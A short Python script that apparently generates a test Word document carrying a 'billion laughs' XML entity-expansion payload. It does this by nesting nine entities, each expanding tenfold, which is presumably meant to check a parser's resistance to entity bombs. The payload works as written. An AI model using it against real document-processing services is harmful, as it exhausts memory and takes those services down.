"""Entities that stand for one another, a billion in the end."""

from itertools import pairwise

from _word import write

NAMES = "abcdefghi"
ENTITIES = "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(NAMES))
write(
    "<w:p><w:r><w:t>&i;</w:t></w:r></w:p>",
    f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "lol">{ENTITIES}]>',
)
